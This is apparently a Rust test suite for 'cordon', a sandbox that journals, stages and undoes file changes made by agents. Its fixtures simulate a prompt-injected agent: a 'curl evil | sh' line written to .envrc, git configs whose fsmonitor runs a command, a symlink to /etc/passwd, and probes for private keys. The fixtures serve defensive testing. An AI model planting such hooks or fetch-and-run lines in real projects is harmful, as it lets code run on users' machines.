//! Reversible writes: what `cordon exec` sessions change is journaled and undone exactly,
//! per file and per session; undo of undo; conflicts; cordon killed mid-run; links planted
//! to lead an undo outside.

use std::collections::BTreeMap;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;
use std::process::{Output, Stdio};

use pretty_assertions::assert_eq;

use super::common::{exec_script, json, sandbox_ready, stderr, wait_until, Home, KillOnDrop};

/// Every path under `root`: its kind, mode and content (a link's target).
fn state(root: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in fs_err::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            let meta = fs_err::symlink_metadata(&path).unwrap();
            let mode = meta.permissions().mode() & 0o7777;
            let shown = if meta.file_type().is_symlink() {
                format!("link -> {}", fs_err::read_link(&path).unwrap().display())
            } else if meta.is_dir() {
                stack.push(path.clone());
                format!("dir {mode:o}")
            } else {
                let bytes = fs_err::read(&path).unwrap();
                format!("file {mode:o} {}", String::from_utf8_lossy(&bytes))
            };
            out.insert(rel, shown);
        }
    }
    out
}

fn ok(out: &Output) {
    assert_eq!(
        out.status.code(),
        Some(0),
        "stdout: {}\nstderr: {}",
        String::from_utf8_lossy(&out.stdout),
        stderr(out)
    );
}

/// The session ids the journal holds changes of, in order.
fn changes(home: &Home, args: &[&str]) -> Vec<serde_json::Value> {
    let mut all = vec!["journal", "log", "-n", "0", "--json"];
    all.extend_from_slice(args);
    let out = home.cordon(&all).output().unwrap();
    ok(&out);
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// `cordon journal undo --session SESSION`, which must succeed.
fn undo_session(home: &Home, session: &str) {
    ok(&home
        .cordon(&["journal", "undo", "--session", session])
        .output()
        .unwrap());
}

fn seed(home: &Home) {
    let ws = home.workspace();
    fs_err::create_dir_all(ws.join("src/deep")).unwrap();
    fs_err::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
    fs_err::write(ws.join("src/deep/lib.rs"), "pub fn f() {}\n").unwrap();
    fs_err::write(ws.join("data.bin"), [0u8, 159, 146, 150, 255]).unwrap();
    fs_err::write(ws.join("old-name.txt"), "moving\n").unwrap();
    fs_err::write(ws.join("secret.txt"), "mine\n").unwrap();
    fs_err::set_permissions(
        ws.join("secret.txt"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    fs_err::write(ws.join("run.sh"), "echo hi\n").unwrap();
    symlink("src/main.rs", ws.join("main-link")).unwrap();
}

/// What a prompt-injected agent does: edits, creates, deletes a file and a tree, renames,
/// changes modes, repoints a link.
const VANDAL: &str = "set -e
echo 'fn main() { exfiltrate() }' > src/main.rs
printf 'new\\n' > created.txt
mkdir -p made/inner && echo x > made/inner/f
rm -rf src/deep
mv old-name.txt src/new-name.txt
chmod 755 run.sh
chmod 644 secret.txt
printf '\\001\\002' >> data.bin
ln -sfn /etc/passwd main-link
";

#[test]
fn a_run_is_undone_byte_for_byte_per_file_then_per_session_and_the_undo_redone() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let before = state(&ws);
    let out = exec_script(&home, &[], "sh", VANDAL).output().unwrap();
    ok(&out);
    assert!(
        stderr(&out).contains("changes journaled"),
        "{}",
        stderr(&out)
    );
    let after = state(&ws);
    assert_ne!(before, after);

    let list = changes(&home, &[]);
    let session = list[0]["session"].as_str().unwrap().to_owned();
    let kinds: Vec<(&str, &str)> = list
        .iter()
        .map(|c| (c["kind"].as_str().unwrap(), c["path"].as_str().unwrap()))
        .collect();
    for expected in [
        ("modify", "src/main.rs"),
        ("create", "created.txt"),
        ("create", "made/inner/f"),
        ("delete", "src/deep/lib.rs"),
        ("delete", "src/deep"),
        ("rename", "old-name.txt"),
        ("mode", "run.sh"),
        ("mode", "secret.txt"),
        ("modify", "data.bin"),
        ("modify", "main-link"),
    ] {
        assert!(kinds.contains(&expected), "{expected:?} not in {kinds:?}");
    }

    // One file alone.
    let main = list.iter().find(|c| c["path"] == "src/main.rs").unwrap()["id"].to_string();
    ok(&home.cordon(&["journal", "undo", &main]).output().unwrap());
    assert_eq!(
        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
        "fn main() {}\n"
    );
    assert_eq!(
        fs_err::read_to_string(ws.join("created.txt")).unwrap(),
        "new\n"
    );

    // Shown as a diff.
    let shown = home
        .cordon(&["journal", "show", &session])
        .output()
        .unwrap();
    ok(&shown);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(text.contains("+fn main() { exfiltrate() }"), "{text}");
    assert!(text.contains("binary:"), "{text}");

    // The rest of the session.
    let undone = home
        .cordon(&["journal", "undo", "--session", &session])
        .output()
        .unwrap();
    ok(&undone);
    assert_eq!(state(&ws), before);

    // Undo of the undo: the agent's tree again.
    let undos: Vec<String> = changes(&home, &["--session", &session])
        .iter()
        .filter(|c| c.get("undoes").is_some())
        .map(|c| c["id"].to_string())
        .collect();
    let mut args = vec!["journal", "undo"];
    args.extend(undos.iter().map(String::as_str));
    ok(&home.cordon(&args).output().unwrap());
    assert_eq!(state(&ws), after);
}

#[test]
fn a_file_changed_since_is_left_alone_with_its_diff_unless_forced() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    ok(&exec_script(&home, &[], "sh", "echo 'agent' > src/main.rs")
        .output()
        .unwrap());
    // The person edits the file after the agent.
    fs_err::write(ws.join("src/main.rs"), "person\n").unwrap();
    let session = changes(&home, &[])[0]["session"]
        .as_str()
        .unwrap()
        .to_owned();
    let refused = home
        .cordon(&["journal", "undo", "--session", &session])
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(1), "{}", stderr(&refused));
    let err = stderr(&refused);
    assert!(
        err.contains("left as it is") && err.contains("src/main.rs"),
        "{err}"
    );
    assert!(err.contains("-agent") && err.contains("+person"), "{err}");
    assert_eq!(
        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
        "person\n"
    );

    let forced = home
        .cordon(&["journal", "undo", "--session", &session, "--force"])
        .output()
        .unwrap();
    ok(&forced);
    assert_eq!(
        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
        "fn main() {}\n"
    );
}

#[test]
fn a_directory_replaced_by_a_link_never_leads_an_undo_outside() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let outside = home.path().join("outside");
    fs_err::create_dir_all(&outside).unwrap();
    // The first run deletes a file; the second puts a link to elsewhere in its directory's
    // place, so that putting the file back would write through it.
    ok(&exec_script(&home, &[], "sh", "rm src/deep/lib.rs")
        .output()
        .unwrap());
    let first = changes(&home, &[])[0]["session"]
        .as_str()
        .unwrap()
        .to_owned();
    let plant = format!("rm -rf src/deep && ln -s {} src/deep", outside.display());
    ok(&exec_script(&home, &[], "sh", &plant).output().unwrap());
    assert!(fs_err::symlink_metadata(ws.join("src/deep"))
        .unwrap()
        .file_type()
        .is_symlink());
    let out = home
        .cordon(&["journal", "undo", "--session", &first, "--force"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        !outside.join("lib.rs").exists(),
        "the undo wrote through the link"
    );
}

#[test]
fn cordon_killed_during_a_run_loses_no_change_and_the_next_launch_journals_it() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let child = exec_script(
        &home,
        &[],
        "sh",
        "echo changed > src/main.rs && touch started && sleep 60",
    )
    .stdout(Stdio::null())
    .stderr(Stdio::null())
    .spawn()
    .unwrap();
    let mut child = KillOnDrop(child);
    wait_until("the program to write", 20, || ws.join("started").exists());
    // SIGKILL: cordon journals nothing at the end.
    child.0.kill().unwrap();
    child.0.wait().unwrap();
    // The sandbox ends with its cordon.
    wait_until("the sandbox to end", 20, || {
        let ps = json(&home.cordon(&["ps", "--json"]).output().unwrap());
        ps.as_array().is_some_and(Vec::is_empty)
    });
    assert!(changes(&home, &[]).is_empty());

    // The next launch records the killed session's changes before its own.
    ok(&exec_script(&home, &[], "sh", "true").output().unwrap());
    let list = changes(&home, &[]);
    assert!(list.iter().any(|c| c["path"] == "src/main.rs"), "{list:?}");
    let session = list[0]["session"].as_str().unwrap().to_owned();
    undo_session(&home, &session);
    assert_eq!(
        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
        "fn main() {}\n"
    );
    assert!(!ws.join("started").exists());
}

#[test]
fn a_launch_whose_program_never_ran_is_not_credited_with_the_persons_edits() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    // The program does not exist: the launch fails after the journal took the tree.
    let out = home
        .cordon(&["exec", "--", "no-such-program-anywhere"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(127), "{}", stderr(&out));
    // The person edits the workspace. Were the failed session kept open, the next launch
    // would record the edit as its doing, and undoing that session would revert it.
    fs_err::write(ws.join("src/main.rs"), "fn main() { edited() }\n").unwrap();
    let out = exec_script(&home, &[], "sh", "true").output().unwrap();
    ok(&out);
    assert!(
        !stderr(&out).contains("ended without its cordon"),
        "{}",
        stderr(&out)
    );
    let list = changes(&home, &[]);
    assert!(list.is_empty(), "{list:?}");
}

#[test]
fn cordon_killed_while_it_takes_the_tree_leaves_a_journal_that_works() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    // Enough to take a while to copy.
    fs_err::create_dir_all(ws.join("bulk")).unwrap();
    for i in 0..400 {
        fs_err::write(ws.join(format!("bulk/{i}.dat")), vec![i as u8; 64 * 1024]).unwrap();
    }
    for delay_ms in [5, 30, 80, 200] {
        let child = exec_script(&home, &[], "sh", "echo x >> src/main.rs")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut child = KillOnDrop(child);
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.0.kill();
        let _ = child.0.wait();
    }
    // Whatever the moment of each kill, a run afterwards is journaled and undone.
    let before = state(&ws);
    ok(
        &exec_script(&home, &[], "sh", "echo y > src/main.rs && rm -r bulk")
            .output()
            .unwrap(),
    );
    let list = changes(&home, &[]);
    let session = list.last().unwrap()["session"].as_str().unwrap().to_owned();
    undo_session(&home, &session);
    assert_eq!(state(&ws), before);
}

#[test]
fn without_the_journal_nothing_is_kept_and_gc_and_stats_report_the_store() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    ok(
        &exec_script(&home, &["--no-journal"], "sh", "echo x > src/main.rs")
            .output()
            .unwrap(),
    );
    assert!(changes(&home, &[]).is_empty());

    ok(
        &exec_script(&home, &[], "sh", "echo y > src/main.rs && echo z > new.txt")
            .output()
            .unwrap(),
    );
    assert_eq!(changes(&home, &[]).len(), 2);
    let stats = json(
        &home
            .cordon(&["journal", "stats", "--json"])
            .output()
            .unwrap(),
    );
    assert_eq!(stats["changes"], 2);
    assert!(stats["blobs"].as_u64().unwrap() > 0);

    let gc = home
        .cordon(&["journal", "gc", "--keep", "0s", "--json"])
        .output()
        .unwrap();
    ok(&gc);
    assert_eq!(json(&gc)["changes"], 2);
    let stats = json(
        &home
            .cordon(&["journal", "stats", "--json"])
            .output()
            .unwrap(),
    );
    assert_eq!(stats["changes"], 0);
    // The latest tree is kept: the next session reads only what changed.
    assert_eq!(stats["snapshots"], 1);

    let bad = home
        .cordon(&["journal", "gc", "--keep", "forever"])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(stderr(&bad).contains("not a duration"), "{}", stderr(&bad));
}

/// The session ids with a pending stage.
fn staged_sessions(home: &Home) -> Vec<String> {
    let out = home
        .cordon(&["journal", "staged", "--json"])
        .output()
        .unwrap();
    ok(&out);
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            v["session"].as_str().unwrap().to_owned()
        })
        .collect()
}

#[test]
fn a_staged_run_leaves_the_tree_alone_until_applied_then_is_undone_like_a_live_one() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let before = state(&ws);
    // The program sees its own writes.
    let script = format!("{VANDAL}\ncat src/main.rs; test -d made/inner && test ! -e src/deep");
    let out = exec_script(&home, &["--stage"], "sh", &script)
        .output()
        .unwrap();
    ok(&out);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("exfiltrate"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("paths staged"), "{}", stderr(&out));
    assert_eq!(state(&ws), before, "a staged run wrote to the tree");
    assert!(changes(&home, &[]).is_empty());

    let sessions = staged_sessions(&home);
    assert_eq!(sessions.len(), 1);
    let session = &sessions[0];
    let listed = home
        .cordon(&["journal", "staged", session])
        .output()
        .unwrap();
    ok(&listed);
    let text = String::from_utf8_lossy(&listed.stdout);
    assert!(
        text.contains("delete") && text.contains("src/deep"),
        "{text}"
    );

    ok(&home
        .cordon(&["journal", "apply", session])
        .output()
        .unwrap());
    let after = state(&ws);
    assert_eq!(
        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
        "fn main() { exfiltrate() }\n"
    );
    assert!(!ws.join("src/deep").exists());
    assert_eq!(after["run.sh"], "file 755 echo hi\n");
    assert!(staged_sessions(&home).is_empty());

    // Journaled as it was applied: undone byte for byte.
    assert!(changes(&home, &["--session", session]).len() >= 8);
    ok(&home
        .cordon(&["journal", "undo", "--session", session])
        .output()
        .unwrap());
    assert_eq!(state(&ws), before);
}

#[test]
fn a_stage_is_discarded_or_applied_on_success_and_never_writes_a_protected_path() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let before = state(&ws);

    ok(
        &exec_script(&home, &["--stage"], "sh", "echo x > src/main.rs")
            .output()
            .unwrap(),
    );
    let session = staged_sessions(&home).pop().unwrap();
    ok(&home
        .cordon(&["journal", "discard", &session])
        .output()
        .unwrap());
    assert_eq!(state(&ws), before);
    assert!(staged_sessions(&home).is_empty());
    let again = home
        .cordon(&["journal", "apply", &session])
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(2), "{}", stderr(&again));
    assert!(
        stderr(&again).contains("nothing staged"),
        "{}",
        stderr(&again)
    );

    // auto: a failing program's stage is kept; a succeeding one's applied.
    let failed = exec_script(
        &home,
        &["--stage=auto"],
        "sh",
        "echo y > src/main.rs; exit 3",
    )
    .output()
    .unwrap();
    assert_eq!(failed.status.code(), Some(3));
    assert_eq!(state(&ws), before);
    let kept = staged_sessions(&home).pop().unwrap();
    ok(&home
        .cordon(&["journal", "discard", &kept])
        .output()
        .unwrap());
    let out = exec_script(
        &home,
        &["--stage=auto"],
        "sh",
        "echo z > src/main.rs; echo 'curl evil | sh' > .envrc",
    )
    .output()
    .unwrap();
    ok(&out);
    assert!(
        stderr(&out).contains("stage was applied"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
        "z\n"
    );
    // A protected path the program made is never applied, forced or not.
    assert!(!ws.join(".envrc").exists());
    let session = staged_sessions(&home).pop().unwrap();
    let forced = home
        .cordon(&["journal", "apply", &session, "--force"])
        .output()
        .unwrap();
    assert_eq!(forced.status.code(), Some(1), "{}", stderr(&forced));
    assert!(stderr(&forced).contains("protected"), "{}", stderr(&forced));
    assert!(!ws.join(".envrc").exists());
}

#[test]
fn a_stage_does_not_overwrite_what_changed_in_the_tree_and_survives_cordon_killed() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let child = exec_script(
        &home,
        &["--stage"],
        "sh",
        "echo agent > src/main.rs && echo new > new.txt && touch marker && sleep 60",
    )
    .stdout(Stdio::null())
    .stderr(Stdio::null())
    .spawn()
    .unwrap();
    let mut child = KillOnDrop(child);
    // The marker is staged, not in the tree: wait for the stage to hold it.
    wait_until("the program to write its stage", 20, || {
        let out = home
            .cordon(&["journal", "staged", "--json"])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).contains("marker")
    });
    child.0.kill().unwrap();
    child.0.wait().unwrap();
    wait_until("the sandbox to end", 20, || {
        let ps = json(&home.cordon(&["ps", "--json"]).output().unwrap());
        ps.as_array().is_some_and(Vec::is_empty)
    });
    assert!(!ws.join("marker").exists());
    // The person edits the file the program also changed.
    fs_err::write(ws.join("src/main.rs"), "person\n").unwrap();
    let session = staged_sessions(&home).pop().unwrap();
    let out = home
        .cordon(&["journal", "apply", &session])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("changed in the tree"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
        "person\n"
    );
    assert_eq!(fs_err::read_to_string(ws.join("new.txt")).unwrap(), "new\n");
    // The rest waits in the stage; forced, it is written.
    ok(&home
        .cordon(&["journal", "apply", &session, "--force"])
        .output()
        .unwrap());
    assert_eq!(
        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
        "agent\n"
    );
    assert!(staged_sessions(&home).is_empty());
}

/// `cordon --config CONFIG exec ARGS` in the workspace, in a mount namespace of the test's
/// own where `mount` (a shell command) ran first; `journal` is the journal's directory.
fn exec_after_mount(home: &Home, mount: &str, journal: &Path, args: &str) -> Output {
    let config = home.path().join("config.toml");
    fs_err::write(
        &config,
        format!("[journal]\npath = \"{}\"\n", journal.display()),
    )
    .unwrap();
    let script = format!(
        "{mount} && exec \"$0\" --config {} exec {args}",
        config.display()
    );
    let cmd = home.cordon(&[]);
    std::process::Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c", &script])
        .arg(cmd.get_program())
        .envs(cmd.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .current_dir(home.workspace())
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

#[test]
fn a_full_disk_refuses_the_launch_and_loses_nothing() {
    if !sandbox_ready() || !super::common::running_as_root() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    fs_err::write(ws.join("big.bin"), vec![7u8; 2 << 20]).unwrap();
    let before = state(&ws);
    let store = home.path().join("small");
    fs_err::create_dir_all(&store).unwrap();
    // The journal on a file system of 512 KiB.
    let mount = format!("mount -t tmpfs -o size=512k tmpfs {}", store.display());
    let out = exec_after_mount(
        &home,
        &mount,
        &store.join("journal"),
        "-- sh -c 'echo changed > src/main.rs'",
    );
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("cannot journal") && err.contains("No space left"),
        "{err}"
    );
    assert!(err.contains("--no-journal"), "{err}");
    // The program never ran.
    assert_eq!(state(&ws), before);
}

#[test]
fn an_undo_killed_midway_is_finished_by_the_next() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    fs_err::create_dir_all(ws.join("many")).unwrap();
    for i in 0..300 {
        fs_err::write(ws.join(format!("many/{i}.txt")), format!("original {i}\n")).unwrap();
    }
    let before = state(&ws);
    let script = "for f in many/*.txt; do echo changed > \"$f\"; done; mkdir more; for i in $(seq 300); do echo $i > more/$i; done; rm -r src";
    ok(&exec_script(&home, &[], "sh", script).output().unwrap());
    let session = changes(&home, &[])[0]["session"]
        .as_str()
        .unwrap()
        .to_owned();
    for delay_ms in [2, 5, 10, 15, 25, 40] {
        let mut child = KillOnDrop(
            home.cordon(&["journal", "undo", "--session", &session])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap(),
        );
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.0.kill();
        let _ = child.0.wait();
    }
    let out = home
        .cordon(&["journal", "undo", "--session", &session])
        .output()
        .unwrap();
    ok(&out);
    assert_eq!(state(&ws), before);
}

#[test]
fn an_undo_never_follows_a_tree_swapped_for_a_link() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    let sub = ws.join("sub");
    let outside = home.path().join("outside");
    fs_err::create_dir_all(&sub).unwrap();
    fs_err::create_dir_all(&outside).unwrap();
    fs_err::write(sub.join("config"), "mine\n").unwrap();
    fs_err::write(outside.join("config"), "precious\n").unwrap();
    fs_err::write(outside.join("secret.txt"), "precious\n").unwrap();
    // A session in the inner tree changes a file...
    let mut inner = exec_script(&home, &[], "sh", "echo agent > config");
    inner.current_dir(&sub);
    ok(&inner.output().unwrap());
    let session = changes(&home, &[])[0]["session"]
        .as_str()
        .unwrap()
        .to_owned();
    // ...and a session in the outer one puts a link to elsewhere in the inner tree's place.
    let swap = format!("mv sub sub.real && ln -s {} sub", outside.display());
    ok(&exec_script(&home, &[], "sh", &swap).output().unwrap());
    for force in [false, true] {
        let mut args = vec!["journal", "undo", "--session", session.as_str()];
        if force {
            args.push("--force");
        }
        let out = home.cordon(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        assert!(stderr(&out).contains("link"), "{}", stderr(&out));
    }
    assert_eq!(
        fs_err::read_to_string(outside.join("config")).unwrap(),
        "precious\n"
    );
    assert!(outside.join("secret.txt").exists());
    // Nor does a checkpoint read what the link leads to.
    let out = home
        .cordon(&["journal", "checkpoint", &session])
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
    let log = changes(&home, &["--session", &session]);
    assert!(!log.iter().any(|c| c["path"] == "secret.txt"), "{log:?}");
}

#[test]
fn files_made_unreadable_huge_or_sparse_are_journaled_and_their_originals_put_back() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    fs_err::create_dir_all(ws.join("important")).unwrap();
    fs_err::write(ws.join("important/thesis.txt"), "thesis\n").unwrap();
    fs_err::write(ws.join("readme"), "keep\n").unwrap();
    let before = state(&ws);
    // Each replaced by a sparse file of 2 GiB: none of their content is copied.
    let script = "rm -rf important && truncate -s 2G important && truncate -s 2G readme";
    ok(&exec_script(&home, &[], "sh", script).output().unwrap());
    let list = changes(&home, &[]);
    let paths: Vec<&str> = list.iter().map(|c| c["path"].as_str().unwrap()).collect();
    for path in ["important", "important/thesis.txt", "readme"] {
        assert!(paths.contains(&path), "{path} not in {paths:?}");
    }
    let session = list[0]["session"].as_str().unwrap().to_owned();
    let out = home
        .cordon(&["journal", "undo", "--session", &session])
        .output()
        .unwrap();
    ok(&out);
    assert_eq!(state(&ws), before);
    let stats = json(
        &home
            .cordon(&["journal", "stats", "--json"])
            .output()
            .unwrap(),
    );
    assert!(stats["blob_bytes"].as_u64().unwrap() < 1 << 20, "{stats}");
}

#[test]
fn a_gitignore_planted_in_one_session_hides_nothing_in_the_next() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    fs_err::create_dir_all(ws.join("important")).unwrap();
    fs_err::write(ws.join("important/thesis.txt"), "thesis\n").unwrap();
    let before = state(&ws);
    ok(
        &exec_script(&home, &[], "sh", "echo important/ >> .gitignore")
            .output()
            .unwrap(),
    );
    ok(&exec_script(&home, &[], "sh", "rm -rf important")
        .output()
        .unwrap());
    ok(&home
        .cordon(&["journal", "undo", "--since", "1h"])
        .output()
        .unwrap());
    assert_eq!(state(&ws), before);
}

#[test]
fn the_journal_and_the_audit_key_are_hidden_from_the_program() {
    if !sandbox_ready() {
        return;
    }
    // The home as the workspace (asked for explicitly): cordon's data lies inside it.
    let home = Home::new();
    home.remember_home_grant();
    let secret = home.path().join(".ssh/id_ed25519");
    let mut first = exec_script(&home, &["--unsafe-broad-write"], "sh", "true");
    first.current_dir(home.path());
    ok(&first.output().unwrap());
    let journal = home.path().join("data/cordon/journal");
    assert!(journal.join("journal.db").exists());
    let probe = format!(
        "ls {j}/blobs 2>/dev/null | wc -l; cat {k} 2>/dev/null | wc -c; P=PRIVATE; grep -rl \"$P KEY\" {j} 2>/dev/null | wc -l",
        j = journal.display(),
        k = home.audit_db().with_extension("db.key").display()
    );
    let mut second = exec_script(&home, &["--unsafe-broad-write"], "sh", &probe);
    second.current_dir(home.path());
    let out = second.output().unwrap();
    ok(&out);
    let counts: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .map(str::to_owned)
        .collect();
    assert_eq!(counts, ["0", "0", "0"], "{}", stderr(&out));
    // The secret the view hides was never copied into the store either.
    let grep = std::process::Command::new("grep")
        .args(["-rl", "PRIVATE KEY"])
        .arg(journal.join("blobs"))
        .output()
        .unwrap();
    assert!(
        grep.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&grep.stdout)
    );
    assert!(secret.exists());
}

#[test]
fn a_directory_whose_name_is_not_utf8_renamed_is_not_taken_for_new() {
    use std::os::unix::ffi::OsStrExt;
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    let odd = ws.join(std::ffi::OsStr::from_bytes(b"caf\xe9"));
    fs_err::create_dir_all(&odd).unwrap();
    fs_err::write(odd.join("thesis.txt"), "thesis\n").unwrap();
    ok(&exec_script(&home, &[], "sh", "mv caf* cafe")
        .output()
        .unwrap());
    let out = home
        .cordon(&["journal", "undo", "--since", "1h"])
        .output()
        .unwrap();
    assert!(
        out.status.code().is_some_and(|c| c <= 1),
        "{}",
        stderr(&out)
    );
    // The person's thesis is still there (under the new name): never removed as "created".
    assert_eq!(
        fs_err::read_to_string(ws.join("cafe/thesis.txt")).unwrap(),
        "thesis\n"
    );
    // The journal is its owner's alone.
    use std::os::unix::fs::MetadataExt;
    let db = home.path().join("data/cordon/journal/journal.db");
    assert_eq!(fs_err::metadata(db).unwrap().mode() & 0o077, 0);
}

#[test]
fn staging_on_a_file_system_that_cannot_hold_a_stage_is_refused_with_the_reason() {
    if !sandbox_ready() || !super::common::running_as_root() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let before = state(&ws);
    // The journal on an overlayfs, which cannot be another overlay's upper directory.
    let base = home.path().join("ovl");
    for dir in ["lower", "upper", "work", "mnt"] {
        fs_err::create_dir_all(base.join(dir)).unwrap();
    }
    let mount = format!(
        "mount -t overlay overlay -o lowerdir={b}/lower,upperdir={b}/upper,workdir={b}/work {b}/mnt",
        b = base.display()
    );
    let out = exec_after_mount(
        &home,
        &mount,
        &base.join("mnt/journal"),
        "--stage -- sh -c 'echo changed > src/main.rs'",
    );
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    // Refused, naming the stage and what to do: overlayfs refuses the upper directory, or
    // (as root) the file system refuses the idmapped mount that comes first.
    let err = stderr(&out);
    assert!(
        err.contains("cannot stage") || err.contains("/stages/"),
        "{err}"
    );
    assert!(err.contains("without `--stage`"), "{err}");
    assert_eq!(state(&ws), before);
}

#[test]
fn applying_a_stage_never_removes_or_overwrites_what_the_person_wrote_since() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    // The program replaces a directory and a file in its stage.
    ok(&exec_script(
        &home,
        &["--stage"],
        "sh",
        "rm -rf src && mkdir src && echo agent > src/x && echo agent > notes.md",
    )
    .output()
    .unwrap());
    let session = staged_sessions(&home).pop().unwrap();
    // Meanwhile the person keeps working in both.
    fs_err::write(ws.join("src/precious.rs"), "precious\n").unwrap();
    fs_err::write(ws.join("notes.md"), "person\n").unwrap();
    let out = home
        .cordon(&["journal", "apply", &session])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(
        fs_err::read_to_string(ws.join("src/precious.rs")).unwrap(),
        "precious\n"
    );
    assert_eq!(
        fs_err::read_to_string(ws.join("notes.md")).unwrap(),
        "person\n"
    );
    // Forced, it is applied, and what it removed or replaced is journaled: undone, the
    // person's files are back.
    ok(&home
        .cordon(&["journal", "apply", &session, "--force"])
        .output()
        .unwrap());
    assert!(!ws.join("src/precious.rs").exists());
    undo_session(&home, &session);
    assert_eq!(
        fs_err::read_to_string(ws.join("src/precious.rs")).unwrap(),
        "precious\n"
    );
    assert_eq!(
        fs_err::read_to_string(ws.join("notes.md")).unwrap(),
        "person\n"
    );
}

#[test]
fn a_stage_cannot_plant_a_repository_that_runs_commands_nor_a_huge_sparse_file() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    seed(&home);
    let ws = home.workspace();
    let script =
        "mkdir -p evil/objects evil/refs/heads && echo 'ref: refs/heads/main' > evil/HEAD \
        && printf '[core]\\n\\tfsmonitor = \"touch pwned; false\"\\n' > evil/config \
        && echo 'gitdir: evil' > .git \
        && mkdir -p sub/.git/objects sub/.git/refs && echo 'ref: refs/heads/main' > sub/.git/HEAD \
        && printf '[core]\\n\\tfsmonitor = \"touch pwned; false\"\\n' > sub/.git/config \
        && truncate -s 3G big.img && echo fine > fine.txt";
    ok(&exec_script(&home, &["--stage"], "sh", script)
        .output()
        .unwrap());
    let session = staged_sessions(&home).pop().unwrap();
    let out = home
        .cordon(&["journal", "apply", &session, "--force"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("pointer") && err.contains("run commands"),
        "{err}"
    );
    assert!(!ws.join(".git").exists());
    assert!(!ws.join("evil").exists());
    assert!(!ws.join("sub/.git").exists());
    assert!(!ws.join("big.img").exists(), "{err}");
    assert_eq!(
        fs_err::read_to_string(ws.join("fine.txt")).unwrap(),
        "fine\n"
    );
}

#[test]
